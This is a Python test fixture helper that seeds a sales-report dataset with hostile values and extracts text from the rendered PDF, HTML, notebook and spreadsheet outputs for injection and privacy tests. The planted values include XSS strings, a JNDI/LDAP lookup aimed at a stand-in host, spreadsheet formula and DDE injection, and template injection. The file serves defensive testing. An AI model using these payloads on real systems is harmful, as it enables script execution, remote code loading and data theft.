"""A hostile copy of the tiny fixture and ONE store report rendered from it, per session.

Shared by tests/system/test_injection.py and tests/system/test_privacy_outputs.py: the render takes
10–25 s, so it is cached here (module global) and done once however many tests use it.
The model name (with </style>) is in the data but no report section shows models.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
import zipfile
from html import unescape
from pathlib import Path

FIXTURE = Path(__file__).parents[1] / "fixtures" / "tiny"
STORE, MONTH = "S1", "2026-09"

STORE_NAME = "<script>alert(1)</script>\"店'"
REGION = "{% raw %}${jndi:ldap://evil/a}"
#: a URL and an image in the data: text in every output, never a link or an image (14.7)
CITY = "![c](http://127.0.0.1:18999/city.png) www.evil.example"
CONSULTANTS = {  # S1's: C11, C12 have leads, visits, orders; C13, C14 visits only
    "C11": "{{ 7*7 }}<img src=x onerror=alert(1)>",
    "C12": '=HYPERLINK("http://evil","x")',
    "C13": "+cmd|' /C calc'!A0",
    "C14": r"$\undefinedcmd{x}$ 王",  # matplotlib mathtext: must be drawn as plain text
}
MODEL = "A6</style><script>alert(2)</script>"
COMPETITOR = "宝马</style><b onmouseover=alert(3)>3系</b>"
SOURCE = "[点我](javascript:alert(4))"

#: lead id → (customer name, phone as the dealer typed it, masked name, masked phone)
CUSTOMERS = {
    "L01": ("欧阳娜娜", "13812345678", "欧阳**", "138****5678"),
    "L06": ("司马相如", "+86 139-8765-4321", "司马**", "139****4321"),
    "L02": ("诸葛亮亮", "137 0000 2468", "诸葛**", "137****2468"),
    "L04": ("慕容复华", "136-1111-3579", "慕容**", "136****3579"),
    "L05": ("钟离玥玥", "021-55501234", "钟离**", "*******1234"),
    "L07": ("上官婉儿", "13522223333", "上官**", "135****3333"),
    "L10": ("令狐冲冲", "8613344445555", "令狐**", "133****5555"),
    "L21": ("皇甫嵩嵩", "13866667777", "皇甫**", "138****7777"),
    "L22": ("独孤求败", "13688889999", "独孤**", "136****9999"),
}
#: visit id → lead id whose customer walked in (the visits register repeats name and phone)
VISIT_CUSTOMERS = {"V02": "L10", "V03": "L05", "V05": "L01", "V06": "L06", "V08": "L07"}

_rendered: dict[str, Path] | None = None


def _rewrite(path: Path, change) -> None:
    """Rewrite a CSV row by row: ``change(row)`` edits the dict in place."""
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        fields, rows = list(reader.fieldnames or []), list(reader)
    for row in rows:
        change(row)
    extra = [k for row in rows for k in row if k not in fields]
    fields += list(dict.fromkeys(extra))
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=fields, quoting=csv.QUOTE_MINIMAL)
        writer.writeheader()
        writer.writerows(rows)


def make_hostile_data(folder: Path) -> Path:
    """Copy the tiny fixture to ``folder`` with hostile names and customer details."""
    shutil.copytree(FIXTURE, folder)
    (folder / "README.md").unlink()

    def store(row):
        if row["store_id"] == STORE:
            row.update(store_name=STORE_NAME, region=REGION, city=CITY)

    def consultant(row):
        row["name"] = CONSULTANTS.get(row["consultant_id"], row["name"])

    def lead(row):
        name, phone, *_ = CUSTOMERS.get(row["lead_id"], ("", "", "", ""))
        row.update(customer_name=name, phone=phone)
        if row["lead_id"] == "L02":
            row["competitor"] = COMPETITOR
        if row["model"] == "A6":
            row["model"] = MODEL

    def visit(row):
        name, phone, *_ = CUSTOMERS.get(VISIT_CUSTOMERS.get(row["visit_id"], ""), ("", "", "", ""))
        row.update(customer_name=name, phone=phone)
        if row["visit_id"] in ("V04", "V07"):
            row["consultant_id"] = "C13"
        if row["visit_id"] == "V09":
            row["consultant_id"] = "C14"
        if row["visit_id"] == "V03":
            row["source"] = SOURCE
        if row["model"] == "A6":
            row["model"] = MODEL

    def order(row):
        if row["model"] == "A6":
            row["model"] = MODEL

    _rewrite(folder / "stores.csv", store)
    _rewrite(folder / "consultants.csv", consultant)
    with (folder / "consultants.csv").open("a", encoding="utf-8", newline="") as fh:
        for cid in ("C13", "C14"):
            csv.writer(fh).writerow([cid, STORE, CONSULTANTS[cid], "sales", "2025-01-01", ""])
    _rewrite(folder / "leads.csv", lead)
    _rewrite(folder / "visits.csv", visit)
    _rewrite(folder / "orders.csv", order)
    return folder


def hostile_report(tmp_root: Path) -> dict[str, Path]:
    """Render the hostile store report once (under ``tmp_root``); later calls reuse it."""
    global _rendered
    if _rendered is None:
        from kpi_lib.run.store_reports import render_store_report

        data = make_hostile_data(tmp_root / "data")
        _rendered = render_store_report(STORE, MONTH, "zh", data, tmp_root / "reports")
        _rendered["data"] = data
    return _rendered


# --------------------------------------------------------------------------- reading outputs


def pdf_text(pdf: Path) -> str:
    """The PDF's text as ``pdftotext`` (poppler) extracts it."""
    return subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True,
                          text=True, check=True).stdout


def html_text(html: str) -> str:
    """The HTML source and its entity-decoded form, without inline image data."""
    bare = re.sub(r"data:image/[a-z+]+;base64,[A-Za-z0-9+/=\s]+", "", html)
    return bare + "\n" + unescape(bare)


def ipynb_strings(ipynb: Path) -> str:
    """Every string of the notebook file (sources, outputs, metadata) but image data."""
    found: list[str] = []

    def walk(node, key: str = "") -> None:
        if key.startswith("image/"):
            return
        if isinstance(node, dict):
            for k, v in node.items():
                found.append(str(k))
                walk(v, str(k))
        elif isinstance(node, list):
            for v in node:
                walk(v, key)
        elif isinstance(node, str):
            found.append(node)

    walk(json.loads(ipynb.read_text("utf-8")))
    return "\n".join(found)


def xlsx_parts(xlsx: Path) -> str:
    """Every XML part of the workbook (cells, comments, properties), entities decoded."""
    with zipfile.ZipFile(xlsx) as zf:
        return "\n".join(unescape(zf.read(n).decode("utf-8")) for n in zf.namelist()
                         if n.endswith((".xml", ".rels", ".vml")))
